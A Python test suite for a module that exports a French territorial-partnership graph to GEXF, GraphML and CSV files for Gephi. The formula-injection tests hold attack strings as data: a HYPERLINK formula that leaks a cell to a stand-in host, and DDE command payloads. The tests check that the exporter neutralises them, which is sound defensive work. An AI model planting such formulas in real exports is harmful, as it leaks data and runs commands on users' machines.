"""Exports for Gephi: what a researcher opening the GEXF, GraphML or CSV files finds."""

from __future__ import annotations

import csv
import datetime
import doctest
import errno
import os
import xml.etree.ElementTree as ET
from collections import Counter
from pathlib import Path
from typing import Any

import networkx as nx
import pytest

import analyses.exports
from analyses.exports import EXPORT_FORMATS, ExportFormat, export_graph
from analyses.model import (
    PartnershipGraph,
    add_action,
    add_commune,
    add_contract,
    add_departement,
    add_epci,
    add_partner,
    add_region,
    add_sub_territory,
    new_graph,
    node_id,
)
from domain.errors import InputError

GEXF = "{http://gexf.net/1.3}"
GRAPHML = "{http://graphml.graphdrawing.org/xmlns}"

SAINT_FLOUR = node_id("commune", "15187")
NEUVEGLISE = node_id("commune", "15141")
VEDRINES = node_id("commune", "15252")
CTG = node_id("contract", "ctg-saint-flour-2017")
CEJ = node_id("contract", "cej-saint-flour")
CAF = node_id("partner", "caf-15")

#: The coverage of the communes on 2019-06-30, as an analysis would hand it over.
COVERAGE: dict[str, dict[str, Any]] = {
    SAINT_FLOUR: {
        "covered": True,
        "contracts": "ctg-saint-flour-2017;cej-saint-flour",
        "themes": "jeunesse;parentalite",
        "share_population": 0.83,
    },
    NEUVEGLISE: {
        "covered": True,
        "contracts": "ctg-saint-flour-2017",
        "themes": "jeunesse",
        "share_population": 1,  # an int among floats: exported as 1.0
    },
    VEDRINES: {"covered": False},
    node_id("commune", "99999"): {"covered": True},  # not in the graph: ignored
}


@pytest.fixture
def g() -> PartnershipGraph:
    """Saint-Flour Communauté: three communes, a sub-territory, a CTG with an action on two
    themes, a CEJ without dates, and the CAF that signed the CTG twice (two roles)."""
    g = new_graph()
    add_region(g, "84", "Auvergne-Rhône-Alpes")
    add_departement(g, "15", "Cantal", region="84")
    add_epci(g, "200066660", "Saint-Flour Communauté", population=23_000, epci_type="CC")
    for code, name, population in [
        ("15187", "Saint-Flour", 6_500),
        ("15141", "Neuvéglise-sur-Truyère", 1_200),
        ("15252", "Védrines-Saint-Loup", 90),
    ]:
        add_commune(g, code, name, population, departement="15", region="84", epci="200066660")
    add_sub_territory(g, "planeze", "Planèze", ["15187", "15141"], epci="200066660")
    add_contract(
        g,
        "ctg-saint-flour-2017",
        "ctg",
        datetime.date(2017, 1, 1),
        datetime.date(2021, 12, 31),
        covers=[node_id("epci", "200066660")],
        title="CTG de Saint-Flour Communauté",
        status="signed",
        signed_on=datetime.date(2017, 3, 15),
    )
    add_contract(g, "cej-saint-flour", "cej", None, None, covers=[SAINT_FLOUR])
    add_action(g, "fa-1", "ctg-saint-flour-2017", ["jeunesse", "parentalite"], "Accueil", 1)
    add_action(g, "fa-2", "ctg-saint-flour-2017", ["petite-enfance"], "Crèche")
    add_partner(g, "caf-15", "CAF du Cantal", "caf", signed=["ctg-saint-flour-2017"] * 2)
    for key, role in zip(g[CAF][CTG], ["signataire", "financeur"], strict=True):
        g.edges[CAF, CTG, key]["role"] = role
    return g


def export(g: PartnershipGraph, folder: Path, fmt: ExportFormat, **kwargs: Any) -> list[Path]:
    return export_graph(g, folder / f"saint-flour.{fmt}", fmt, **kwargs)


def rels(edges: Any) -> Counter[tuple[str, str, str]]:
    return Counter((str(u), str(v), str(data["rel"])) for u, v, data in edges)


def parse_xml(path: Path) -> ET.Element:
    return ET.parse(path).getroot()  # noqa: S314 - a file this test has just written


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


# --- GEXF ------------------------------------------------------------------------------


def test_gexf_reads_back_with_every_node_and_edge(g: PartnershipGraph, tmp_path: Path) -> None:
    [path] = export(g, tmp_path, "gexf", node_attributes=COVERAGE)
    back = nx.read_gexf(path)

    assert isinstance(back, nx.MultiDiGraph)
    assert sorted(back.nodes) == sorted(g.nodes)
    for n, data in g.nodes(data=True):
        assert (back.nodes[n]["kind"], back.nodes[n]["label"]) == (data["kind"], data["label"])
    assert back.number_of_edges() == g.number_of_edges()
    assert rels(back.edges(data=True)) == rels(g.edges(data=True))
    assert all(data["label"] == data["rel"] for _, _, data in back.edges(data=True))
    assert back.number_of_edges(CAF, CTG) == 2
    assert sorted(d["role"] for d in back[CAF][CTG].values()) == ["financeur", "signataire"]


def test_gexf_is_the_13_format_gephi_reads(g: PartnershipGraph, tmp_path: Path) -> None:
    [path] = export(g, tmp_path, "gexf", node_attributes=COVERAGE)
    root = parse_xml(path)

    assert root.tag == f"{GEXF}gexf"
    assert root.get("version") == "1.3"
    xsi = "{http://www.w3.org/2001/XMLSchema-instance}schemaLocation"
    assert root.get(xsi) == "http://gexf.net/1.3 http://gexf.net/1.3/gexf.xsd"
    graph = root.find(f"{GEXF}graph")
    assert graph is not None
    assert graph.get("defaultedgetype") == "directed"
    declared = {
        (attributes.get("class"), attribute.get("title")): attribute.get("type")
        for attributes in graph.findall(f"{GEXF}attributes")
        for attribute in attributes.findall(f"{GEXF}attribute")
    }
    assert declared[("node", "kind")] == "string"
    assert declared[("node", "covered")] == "boolean"
    assert declared[("node", "population")] == "long"
    assert declared[("node", "share_population")] == "double"
    assert declared[("edge", "rel")] == "string"
    kind_id = next(
        attribute.get("id")
        for attribute in graph.iterfind(f"{GEXF}attributes[@class='node']/{GEXF}attribute")
        if attribute.get("title") == "kind"
    )
    nodes = graph.findall(f"{GEXF}nodes/{GEXF}node")
    assert len(nodes) == g.number_of_nodes()
    for node in nodes:
        assert node.get("label")
        kinds = [v.get("value") for v in node.iterfind(f"{GEXF}attvalues/{GEXF}attvalue")]
        fors = [v.get("for") for v in node.iterfind(f"{GEXF}attvalues/{GEXF}attvalue")]
        assert kinds[fors.index(kind_id)] == g.nodes[node.attrib["id"]]["kind"]
    edges = graph.findall(f"{GEXF}edges/{GEXF}edge")
    assert len({edge.get("id") for edge in edges}) == len(edges) == g.number_of_edges()
    # Gephi keeps parallel edges apart by their kind and shows their label
    assert all(edge.get("kind") == edge.get("label") and edge.get("label") for edge in edges)


def test_gexf_carries_coverage_dates_and_accents_typed(g: PartnershipGraph, tmp_path: Path) -> None:
    [path] = export(g, tmp_path, "gexf", node_attributes=COVERAGE)
    back = nx.read_gexf(path)

    saint_flour = back.nodes[SAINT_FLOUR]
    assert saint_flour["covered"] is True
    assert saint_flour["contracts"] == "ctg-saint-flour-2017;cej-saint-flour"
    assert saint_flour["themes"] == "jeunesse;parentalite"
    assert saint_flour["share_population"] == 0.83
    assert saint_flour["population"] == 6_500
    assert back.nodes[NEUVEGLISE]["share_population"] == 1.0
    assert isinstance(back.nodes[NEUVEGLISE]["share_population"], float)
    assert back.nodes[VEDRINES]["covered"] is False
    assert "covered" not in back.nodes[CTG]  # coverage means nothing for a contract
    assert back.graph["node_default"] == {}  # and no made-up default stands in for it
    assert back.nodes[CTG]["spells"] == [("2017-01-01", "2021-12-31")]
    assert back.nodes[CTG]["signed_on"] == "2017-03-15"
    assert "start" not in back.nodes[CEJ]  # None is left out
    assert back.nodes[node_id("action", "fa-1")]["number"] == 1
    assert back.nodes[NEUVEGLISE]["label"] == "Neuvéglise-sur-Truyère"
    assert back.nodes[node_id("region", "84")]["label"] == "Auvergne-Rhône-Alpes"
    assert "Védrines-Saint-Loup".encode() in path.read_bytes()


# --- GraphML ---------------------------------------------------------------------------


def test_graphml_reads_back_with_keys_declared_and_typed(
    g: PartnershipGraph, tmp_path: Path
) -> None:
    [path] = export(g, tmp_path, "graphml", node_attributes=COVERAGE)
    back = nx.read_graphml(path)

    assert isinstance(back, nx.MultiDiGraph)
    assert sorted(back.nodes) == sorted(g.nodes)
    for n, data in g.nodes(data=True):
        assert (back.nodes[n]["kind"], back.nodes[n]["label"]) == (data["kind"], data["label"])
    assert rels(back.edges(data=True)) == rels(g.edges(data=True))
    assert all(data["label"] == data["rel"] for _, _, data in back.edges(data=True))
    assert back.number_of_edges(CAF, CTG) == 2
    assert back.nodes[SAINT_FLOUR]["covered"] is True
    assert back.nodes[SAINT_FLOUR]["share_population"] == 0.83
    assert back.nodes[NEUVEGLISE]["share_population"] == 1.0
    assert back.nodes[SAINT_FLOUR]["population"] == 6_500
    assert back.nodes[CTG]["start"] == "2017-01-01"
    assert back.nodes[VEDRINES]["label"] == "Védrines-Saint-Loup"

    keys = parse_xml(path).findall(f"{GRAPHML}key")
    declared = {(k.get("for"), k.get("attr.name")): k for k in keys}
    assert declared[("node", "kind")].get("attr.type") == "string"
    assert declared[("node", "covered")].get("attr.type") == "boolean"
    # no default: a partner or a theme has no coverage, not a coverage of false or 0
    assert declared[("node", "covered")].find(f"{GRAPHML}default") is None
    assert declared[("node", "share_population")].find(f"{GRAPHML}default") is None
    assert "covered" not in back.nodes[CAF]
    assert declared[("node", "population")].get("attr.type") == "long"
    assert declared[("edge", "rel")].get("attr.type") == "string"
    ids = [k.get("id") for k in keys]
    assert len(set(ids)) == len(ids)
    # Gephi's GraphML importer reads keys d3 (node) and d7 (edge) as labels (yEd's ids)
    assert not {"d3", "d7"} & set(ids)


# --- CSV -------------------------------------------------------------------------------


def test_csv_has_the_headers_of_gephis_spreadsheet_import(
    g: PartnershipGraph, tmp_path: Path
) -> None:
    paths = export(g, tmp_path, "csv", node_attributes=COVERAGE)
    assert [p.name for p in paths] == ["saint-flour-nodes.csv", "saint-flour-edges.csv"]
    node_header, nodes = read_csv(paths[0])
    edge_header, edges = read_csv(paths[1])

    assert node_header[:3] == ["Id", "Label", "kind"]
    assert node_header[3:] == sorted(node_header[3:])
    assert {"covered", "contracts", "themes", "share_population", "start"} <= set(node_header)
    assert edge_header[:7] == ["Source", "Target", "Label", "Kind", "Type", "Id", "rel"]
    assert len(nodes) == g.number_of_nodes()
    assert len(edges) == g.number_of_edges()
    assert rels((e["Source"], e["Target"], {"rel": e["rel"]}) for e in edges) == rels(
        g.edges(data=True)
    )
    assert all(e["Label"] == e["Kind"] == e["rel"] and e["Type"] == "Directed" for e in edges)
    assert len({e["Id"] for e in edges}) == len(edges)
    signed = [e for e in edges if (e["Source"], e["Target"]) == (CAF, CTG)]
    assert sorted(e["role"] for e in signed) == ["financeur", "signataire"]


def test_csv_cells_carry_coverage_dates_and_accents(g: PartnershipGraph, tmp_path: Path) -> None:
    nodes_path, _ = export(g, tmp_path, "csv", node_attributes=COVERAGE)
    _, rows = read_csv(nodes_path)
    by_id = {row["Id"]: row for row in rows}

    assert by_id[SAINT_FLOUR]["Label"] == "Saint-Flour"
    assert by_id[SAINT_FLOUR]["kind"] == "commune"
    assert by_id[SAINT_FLOUR]["covered"] == "true"
    assert by_id[SAINT_FLOUR]["share_population"] == "0.83"
    assert by_id[SAINT_FLOUR]["population"] == "6500"
    assert by_id[NEUVEGLISE]["Label"] == "Neuvéglise-sur-Truyère"
    assert by_id[NEUVEGLISE]["share_population"] == "1.0"
    assert by_id[VEDRINES]["share_population"] == ""  # no value, no made-up 0
    assert by_id[CTG]["covered"] == ""  # coverage means nothing for a contract
    assert by_id[CAF]["covered"] == ""
    assert by_id[CTG]["contracts"] == ""
    assert (by_id[CTG]["start"], by_id[CTG]["end"]) == ("2017-01-01", "2021-12-31")
    assert by_id[CEJ]["start"] == ""
    assert by_id[CTG]["population"] == ""
    assert "commune:99999" not in by_id


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_open_as_text(
    g: PartnershipGraph, tmp_path: Path
) -> None:
    # a partner renamed through the curation API, and extra values of every kind
    g.nodes[CAF]["label"] = '=HYPERLINK("https://evil.example/?leak="&A1,"Caf du Cantal")'
    extra: dict[str, dict[str, Any]] = {
        SAINT_FLOUR: {"note": "@SUM(A1:A9)", "balance": -3, "phone": "+33 4 71 60 00 00"},
        NEUVEGLISE: {"note": "-2+3+cmd|' /C calc'!A0", "balance": -1.5, "phone": "\t=1+1"},
        VEDRINES: {"note": "\r=1+1", "balance": 2, "phone": "-"},
    }
    nodes_path, _ = export(g, tmp_path, "csv", node_attributes=extra)
    _, rows = read_csv(nodes_path)
    by_id = {row["Id"]: row for row in rows}

    # what a spreadsheet shows: the text, after a quote that stops it being a formula
    assert by_id[CAF]["Label"] == "'" + g.nodes[CAF]["label"]
    assert by_id[SAINT_FLOUR]["note"] == "'@SUM(A1:A9)"
    assert by_id[NEUVEGLISE]["note"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_id[VEDRINES]["note"] == "'\r=1+1"
    assert by_id[SAINT_FLOUR]["phone"] == "'+33 4 71 60 00 00"
    assert by_id[NEUVEGLISE]["phone"] == "'\t=1+1"
    assert by_id[VEDRINES]["phone"] == "'-"
    # numbers stay numbers, ordinary text stays as it was
    assert [by_id[n]["balance"] for n in (SAINT_FLOUR, NEUVEGLISE, VEDRINES)] == [
        "-3.0",
        "-1.5",
        "2.0",
    ]
    assert by_id[SAINT_FLOUR]["Label"] == "Saint-Flour"
    assert len(rows) == g.number_of_nodes()  # a carriage return in a cell starts no row
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        and not cell.lstrip("+-").replace(".", "", 1).isdigit()
        for row in rows
        for cell in row.values()
    )
    assert nodes_path.read_bytes().startswith(b"Id,")  # UTF-8 without BOM


# --- the same rules in every format ----------------------------------------------------


def node_types(path: Path, fmt: str) -> dict[str, str]:
    root = parse_xml(path)
    if fmt == "gexf":
        return {
            str(a.get("title")): str(a.get("type"))
            for a in root.iterfind(f"{GEXF}graph/{GEXF}attributes[@class='node']/{GEXF}attribute")
        }
    return {
        str(k.get("attr.name")): str(k.get("attr.type"))
        for k in root.iterfind(f"{GRAPHML}key[@for='node']")
    }


@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_mixed_types_are_widened_or_written_as_text(fmt: ExportFormat, tmp_path: Path) -> None:
    g = new_graph()
    a = add_commune(g, "15187", "Saint-Flour", 6_500)
    b = add_commune(g, "15141", "Neuvéglise-sur-Truyère", 1_200)
    g.nodes[a].update(score=3, reference=15, flag=True, tags=["jeunesse", "parentalite"])
    g.nodes[b].update(score=2.5, reference="n/a", flag=1, tags=None)
    [path] = export(g, tmp_path, fmt)

    types = node_types(path, fmt)
    assert types["score"] == "double"
    assert types["reference"] == "string"
    assert types["flag"] == "string"  # a bool and an int are not one type
    assert types["population"] == "long"
    back = nx.read_gexf(path) if fmt == "gexf" else nx.read_graphml(path)
    assert (back.nodes[a]["score"], back.nodes[b]["score"]) == (3.0, 2.5)
    assert (back.nodes[a]["reference"], back.nodes[b]["reference"]) == ("15", "n/a")
    assert (back.nodes[a]["flag"], back.nodes[b]["flag"]) == ("true", "1")
    assert back.nodes[a]["tags"] == "jeunesse;parentalite"
    assert "tags" not in back.nodes[b]


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_names_gephi_reads_specially_are_renamed_alike(fmt: ExportFormat, tmp_path: Path) -> None:
    g = new_graph()
    commune = add_commune(g, "15187", "Saint-Flour", epci="200066660")
    g.nodes[commune]["size"] = 12  # Gephi would take it for the node size
    g.edges[commune, node_id("epci", "200066660"), 0]["weight"] = 2  # and this for a weight
    paths = export(g, tmp_path, fmt)

    if fmt == "csv":
        node_header, _ = read_csv(paths[0])
        edge_header, _ = read_csv(paths[1])
        assert ("size_value" in node_header, "size" in node_header) == (True, False)
        assert ("weight_value" in edge_header, "weight" in edge_header) == (True, False)
    else:
        back = nx.read_gexf(paths[0]) if fmt == "gexf" else nx.read_graphml(paths[0])
        assert back.nodes[commune]["size_value"] == 12
        [edge] = back.edges(data=True)
        assert edge[2]["weight_value"] == 2


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_a_node_known_only_as_an_edge_end_gets_its_kind_from_its_id(
    fmt: ExportFormat, tmp_path: Path
) -> None:
    g = new_graph()
    add_commune(g, "15187", "Saint-Flour", epci="200066660")  # the EPCI node has no data
    paths = export(g, tmp_path, fmt)

    epci = node_id("epci", "200066660")
    if fmt == "csv":
        _, rows = read_csv(paths[0])
        row = next(r for r in rows if r["Id"] == epci)
        assert (row["kind"], row["Label"]) == ("epci", epci)
    else:
        back = nx.read_gexf(paths[0]) if fmt == "gexf" else nx.read_graphml(paths[0])
        assert (back.nodes[epci]["kind"], back.nodes[epci]["label"]) == ("epci", epci)


# --- refusals and failures -------------------------------------------------------------


def test_an_unknown_format_is_refused_with_the_choices(g: PartnershipGraph, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"'xlsx'.*gexf, graphml, csv"):
        export_graph(g, tmp_path / "saint-flour.xlsx", "xlsx")  # type: ignore[arg-type]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["kind", "label"])
def test_extra_attributes_cannot_redefine_a_node(
    g: PartnershipGraph, tmp_path: Path, name: str
) -> None:
    with pytest.raises(InputError, match=rf"sets '{name}'.*another name"):
        export(g, tmp_path, "gexf", node_attributes={SAINT_FLOUR: {name: "x"}})
    assert list(tmp_path.iterdir()) == []


def test_a_missing_folder_is_refused_and_not_created(g: PartnershipGraph, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"does not exist.*Create it"):
        export_graph(g, tmp_path / "exports" / "saint-flour.gexf", "gexf")
    assert list(tmp_path.iterdir()) == []


def test_a_folder_as_destination_is_refused(g: PartnershipGraph, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"is a folder.*file name"):
        export_graph(g, tmp_path, "graphml")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes in read-only folders")
def test_a_read_only_folder_is_refused(g: PartnershipGraph, tmp_path: Path) -> None:
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(InputError, match=r"not writable.*folder you can write to"):
            export_graph(g, folder / "saint-flour.gexf", "gexf")
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o700)


def test_a_folder_the_system_refuses_is_reported_and_left_clean(
    g: PartnershipGraph, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(*args: Any, **kwargs: Any) -> int:
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(os, "open", refused)  # e.g. an ACL that os.access does not see
    with pytest.raises(InputError, match=r"Permission denied.*folder you can write to"):
        export(g, tmp_path, "csv")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_a_disk_failing_mid_export_leaves_the_previous_files_untouched(
    g: PartnershipGraph, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: ExportFormat
) -> None:
    previous = export(g, tmp_path, fmt)
    before = {path: path.read_bytes() for path in previous}
    add_commune(g, "15999", "Sainte-Éulalie", 40)

    def disk_full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    with pytest.raises(InputError, match=r"No space left on device.*no file was changed"):
        export(g, tmp_path, fmt)

    assert sorted(tmp_path.iterdir()) == sorted(before)  # no temporary file left behind
    assert {path: path.read_bytes() for path in previous} == before


def test_an_export_gets_the_usual_file_mode(g: PartnershipGraph, tmp_path: Path) -> None:
    umask = os.umask(0o022)
    try:
        [path] = export(g, tmp_path, "gexf")
    finally:
        os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o644


def test_doctests_hold() -> None:
    assert doctest.testmod(analyses.exports).failed == 0


def test_the_csv_of_an_analysis_command_opens_no_formula_either(
    capsys: pytest.CaptureFixture[str],
) -> None:
    from cli.analyses import Output, _emit  # pyright: ignore[reportPrivateUsage]

    rows = [{"partner": "=cmd|' /C calc'!A0", "share": -0.5, "themes": ["+x", "jeunesse"]}]
    _emit(rows, Output.CSV, "coverage", {})
    [header, row] = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert header == ["partner", "share", "themes"]
    assert row == ["'=cmd|' /C calc'!A0", "-0.5", "'+x;jeunesse"]
